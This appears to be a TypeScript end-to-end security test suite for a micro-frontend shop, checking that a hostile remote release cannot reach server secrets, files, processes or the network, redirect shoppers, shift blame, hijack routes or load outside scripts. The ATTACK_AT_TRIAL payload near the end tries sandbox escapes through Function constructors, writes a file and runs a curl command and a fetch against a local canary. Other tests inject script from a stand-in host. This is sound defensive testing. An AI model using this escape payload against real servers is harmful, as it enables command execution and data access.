import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { ReleaseFiles } from '../support/release-files.ts';
import { remotesStarted } from '../support/remotes-started.ts';
import { expect, test } from '../support/shop.ts';
import { visitorFetch } from '../support/visitor-fetch.ts';
import { WorkspaceCopy } from '../support/workspace-copy.ts';

const hostileText = (file: string): string =>
  readFileSync(path.join(import.meta.dirname, '../support/hostile', file), 'utf8');

const ATTEMPTS = hostileText('attempts.js.txt');
const ANSWERS = hostileText('answers.js.txt');
const SLOTS = hostileText('slots.js.txt');

/** A listener that counts who reaches it. */
async function canary(): Promise<{ address: string; hits: string[]; server: Server }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.end('reached');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits, server };
}

/** The home page then shows what the attempts came to. */
const hostile = (code: string, address: string): string =>
  `${code}\n;${ATTEMPTS.replaceAll('CANARY', address)}\n` +
  `module.exports = { exposes: { ...module.exports.exposes, './pages/home-page': () => ({ default: () => require('react').createElement('pre', { id: 'attempts' }, shown()) }) } };`;

function outcomesIn(html: string): Record<string, string> {
  const [, text = '{}'] = /<pre id="attempts">([^<]*)<\/pre>/.exec(html) ?? [];
  return JSON.parse(
    text
      .replaceAll('&quot;', '"')
      .replaceAll('&#x27;', "'")
      .replaceAll('&lt;', '<')
      .replaceAll('&gt;', '>')
      .replaceAll('&amp;', '&'),
  );
}

test('a hostile release gets at no secret, file, process, network or other remote on the server', async ({ shop }) => {
  const files = new ReleaseFiles(shop);
  const { address, hits, server } = await canary();
  const live = (await shop.health()).composition;
  const other = async () => (await fetch(`${shop.origin}/product/bordeaux-capsule`)).text();
  try {
    await files.plant('mf-marketing', (code) => hostile(code, address));
    let outcomes: Record<string, string> = {};
    await expect(async () => {
      outcomes = outcomesIn(await (await fetch(shop.origin)).text());
      expect(Object.keys(outcomes).length).toBeGreaterThan(100);
      expect(Object.values(outcomes)).not.toContain('pending');
    }).toPass({ timeout: 20_000 });
    const succeeded = Object.entries(outcomes).filter(([, outcome]) => outcome.startsWith('SUCCEEDED'));
    process.stdout.write(`${Object.keys(outcomes).length} ways tried on the server, ${succeeded.length} succeeded\n`);
    expect(succeeded).toEqual([]);
    expect(hits).toEqual([]);
    // Another remote's page is what it was: nothing that it uses was changed.
    await expect(async () => {
      const html = await other();
      expect(html).toContain('data-remote="mf-catalog@');
      expect(html).toMatch(/\$\d+\.\d\d/);
    }).toPass({ timeout: 20_000 });
  } finally {
    await files.restore();
    server.close();
  }
  expect((await shop.health()).composition).toBe(live);
});

/** Where the answers of loaders are tried: at a page that is one visitor's, and at one that is stored for everybody. */
const ANSWERING = ['/confirm-subscription?answer=', '/?newsletter='];

test('no answer of a hostile loader leads a shopper elsewhere or has a header of its own', async ({ shop }) => {
  const files = new ReleaseFiles(shop);
  const names = [...ANSWERS.matchAll(/^ {2}'([a-z-]+)': \(\) =>/gm)].map(([, name = '']) => name);
  expect(names.length).toBeGreaterThanOrEqual(20);
  const answer = (address: string) => visitorFetch(shop.origin + address, { redirect: 'manual' });
  try {
    await files.plant('mf-marketing', (code) => `${code}\n;${ANSWERS}`);
    const got: string[] = [];
    for (const address of ANSWERING.flatMap((page) => names.map((name) => page + name))) {
      const response = await answer(address);
      const { location, ...others } = Object.fromEntries(response.headers);
      expect([address, new URL(location ?? '/', shop.origin).origin]).toEqual([address, shop.origin]);
      expect([address, JSON.stringify(others)]).toEqual([address, expect.not.stringMatching(/hostile|elsewhere/)]);
      expect(await response.text()).not.toContain('hostile body');
      got.push(`${address} ${response.status} ${location ?? ''}`);
    }
    process.stdout.write(`${got.length} answers of a hostile loader, 0 that left the site or set a header\n`);
    for (const page of ANSWERING) {
      expect(got).toContain(`${page}elsewhere 500 `);
      expect(got).toContain(`${page}on-the-site 302 /faqs?from=a-loader`);
    }
    expect(shop.log).toContain('a page led to an address');
    expect(await (await answer('/product/bordeaux-capsule')).text()).toContain('data-remote="mf-catalog@');
  } finally {
    await files.restore();
  }
});

test('what a hostile page does to another remote’s part is its own fault', async ({ shop }) => {
  test.setTimeout(60_000);
  const files = new ReleaseFiles(shop);
  const ways = [...SLOTS.matchAll(/^ {4}'([a-z-]+)': \(\) =>/gm)].map(([, name = '']) => name);
  expect(ways.length).toBeGreaterThanOrEqual(13);
  const before = shop.log.length;
  const log = () => shop.log.slice(before).split('\n');
  try {
    await files.plant('mf-account', (code) => `${code}\n;${SLOTS}`);
    for (const way of ways) {
      const response = await visitorFetch(`${shop.origin}/auth?way=${way}`);
      const html = await response.text();
      expect([way, response.status, html.includes('</html>')]).toEqual([way, 200, true]);
    }
    // What failed, and what brought a process down, is the page's, whatever it says.
    const isStrike = (line: string) =>
      line.includes('is suspected at a page') && line.includes('"release":"mf-account@');
    await expect.poll(() => log().some(isStrike)).toBe(true);
    const named = log().filter((line) =>
      /"(?:release|remote)":"mf-catalog@|"A remote failed in a page: mf-catalog/.test(line),
    );
    expect(named).toEqual([]);
    expect(await (await visitorFetch(`${shop.origin}/product/bordeaux-capsule?size=M`)).text()).toContain(
      'data-remote="mf-catalog@',
    );
    process.stdout.write(`${ways.length} ways to have another remote blamed, 0 that did\n`);
  } finally {
    await files.restore();
  }
});

test('paths and slots that another remote claims as well stay with their owner, in the server and in the browser', async ({
  page,
  shop,
}) => {
  const files = new ReleaseFiles(shop);
  const stored = { expose: './pages/impact-page', query: [] };
  // Of the server's claims the last one counted and of the router's the first: the names of the two remotes are on either side.
  const paths = [
    '/account',
    '/auth',
    '/cart',
    '/admin/analytics',
    '/healthz',
    '/assets/impact',
    '/product/:any',
    '/:any',
  ];
  try {
    await files.plantClaims('mf-marketing', {
      pages: paths.map((path) => ({ path, ...stored })),
      slots: { 'cart-drawer': './slots/impact-banner' },
    });
    for (const path of ['/account', '/auth', '/cart', '/admin/analytics']) {
      for (const time of ['first', 'second']) {
        const response = await visitorFetch(shop.origin + path);
        const html = await response.text();
        expect([path, time, response.headers.get('x-cache')]).toEqual([path, time, null]);
        expect([path, html.includes('data-expose="./pages/impact-page"')]).toEqual([path, false]);
      }
    }
    expect(await (await fetch(`${shop.origin}/healthz`)).json()).toMatchObject({ status: 'ok' });
    expect((await fetch(`${shop.origin}/assets/impact`)).status).toBe(404);
    expect((await fetch(`${shop.origin}/nowhere`)).status).toBe(404);
    await expect.poll(() => shop.log).toContain('mf-account has the page /account already');
    expect(shop.log).toContain('mf-cart-checkout has the slot cart-drawer already');
    await page.goto('/impact');
    await remotesStarted(page);
    await page.locator('[data-cart-button]').click();
    await expect(page.getByRole('dialog', { name: 'Your cart' }).getByText('Your cart is empty.')).toBeVisible();
  } finally {
    await files.restore();
  }
});

test.describe('in the browser', () => {
  test.use({ expectedMessages: [/Content Security Policy/, /Trusted ?(?:Type|Script)/] });

  const ELSEWHERE = 'https://elsewhere.invalid';

  test('a script of the page loads none from elsewhere, and the shop comes to life without a violation', async ({
    page,
    shop,
  }) => {
    const reached: string[] = [];
    await page.route(`${ELSEWHERE}/**`, async (route) => {
      reached.push(route.request().url());
      const headers = { 'access-control-allow-origin': '*' };
      await route.fulfill({ contentType: 'text/javascript', headers, body: 'globalThis.smuggled = true;' });
    });
    await page.addInitScript(() => {
      const refused = new Set<string>();
      Object.assign(window, { refused });
      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
        // Some browsers name the whole address, and all of them the host, or of data the scheme.
        const from = blockedURI.startsWith('data') ? 'data' : blockedURI.split('/').slice(0, 3).join('/');
        refused.add(`${effectiveDirective.replace('-elem', '')} ${from}`);
      });
    });
    const refused = () => page.evaluate(() => [...Reflect.get(window, 'refused')].sort());
    await page.goto('/');
    await remotesStarted(page);
    expect(await refused()).toEqual([]);
    const comesOf = (code: string) => page.evaluate(`(${code}).then(() => 'loaded', () => 'refused')`);
    expect(await comesOf(`import('${ELSEWHERE}/module.js')`)).toBe('refused');
    await expect.poll(refused).toEqual([`script-src ${ELSEWHERE}`]);
    expect(await comesOf(`import('data:text/javascript,globalThis.smuggled = true')`)).toBe('refused');
    await expect.poll(refused).toEqual(['script-src data', `script-src ${ELSEWHERE}`]);
    // Of an element that a script makes not even the address is taken.
    const element = `new Promise((resolve, reject) => {
      const script = document.createElement('script');
      script.onload = resolve;
      script.onerror = reject;
      script.src = '${ELSEWHERE}/made.js';
      document.head.append(script);
    })`;
    expect(await comesOf(element)).toBe('refused');
    expect(await page.evaluate(() => 'smuggled' in window)).toBe(false);
    // One that stands in the document passes no script's hands.
    await page.route(`${shop.origin}/faqs`, async (route) => {
      const response = await route.fetch();
      const script = `<script src="${ELSEWHERE}/written.js"></script>`;
      await route.fulfill({ response, body: (await response.text()).replace('</body>', `${script}</body>`) });
    });
    await page.goto('/faqs');
    await expect.poll(refused).toEqual([`script-src ${ELSEWHERE}`]);
    expect(await page.evaluate(() => 'smuggled' in window)).toBe(false);
    expect(reached).toEqual([]);
  });
});

test('a hostile release gets at nothing while it is tried before it goes live', async ({ shop }) => {
  test.setTimeout(120_000);
  const workspace = new WorkspaceCopy('mf-marketing');
  const files = new ReleaseFiles(shop);
  const { address, hits, server } = await canary();
  const planted = path.join(shop.dataDir, 'planted');
  try {
    // Bundled with the remote, so that the bundler lets it pass: names that it would resolve are asked for by a variable.
    workspace.edit('mf-marketing/src/pages/home-page.tsx', (text) => `${text}\n${ATTACK_AT_TRIAL(address, planted)}`);
    await shop.releaseFrom(workspace.folder, 'publish', 'mf-marketing').catch((error: unknown) => String(error));
    expect(hits).toEqual([]);
    expect(() => readFileSync(planted)).toThrow('ENOENT');
    process.stdout.write('0 ways succeeded while the release was tried\n');
  } finally {
    await files.restore();
    workspace.remove();
    server.close();
  }
});

/** Leaves a trace wherever it gets: a file, or a request to the listener. */
const ATTACK_AT_TRIAL = (address: string, file: string): string => `
const scope = globalThis as unknown as Record<string, any>;
const routes: (() => unknown)[] = [
  () => scope['Function']('return process')(),
  () => (() => 0).constructor('return process')(),
  () => scope['process'],
  () => scope['global'].process,
  () => Object.getPrototypeOf(async () => 0).constructor('return process')(),
];
for (const route of routes) {
  try {
    const found = route() as Record<string, any>;
    found['getBuiltinModule']('fs').writeFileSync(${JSON.stringify(file)}, 'x');
    found['getBuiltinModule']('child_process').execSync('curl -s ${address}/spawned');
  } catch {
    // The next way.
  }
}
void fetch('${address}/fetched').catch(() => undefined);
`;
